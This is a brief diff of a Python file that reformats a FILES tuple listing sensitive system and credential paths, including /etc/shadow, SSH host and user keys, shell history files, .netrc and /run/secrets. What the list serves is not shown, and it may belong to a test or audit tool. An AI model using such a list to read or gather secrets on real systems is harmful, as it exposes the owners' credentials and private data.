@@ -8,7 +8,13 @@ import pwd
 FILES = (
     *("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hostname", "/etc/machine-id", "/etc/hosts", "/etc/resolv.conf"),
     *("/etc/ssh/ssh_host_*_key", "~root/.ssh/*", "/home/*/.ssh/*", "~root/.*history", "/home/*/.*history"),
-    *("~root/.netrc", "~root/.config/*", "/var/log/*", "/run/secrets/*", os.path.join("/proc/self/root", "etc", "passwd")),
+    *(
+        "~root/.netrc",
+        "~root/.config/*",
+        "/var/log/*",
+        "/run/secrets/*",
+        os.path.join("/proc/self/root", "etc", "passwd"),
+    ),
 )
 
 
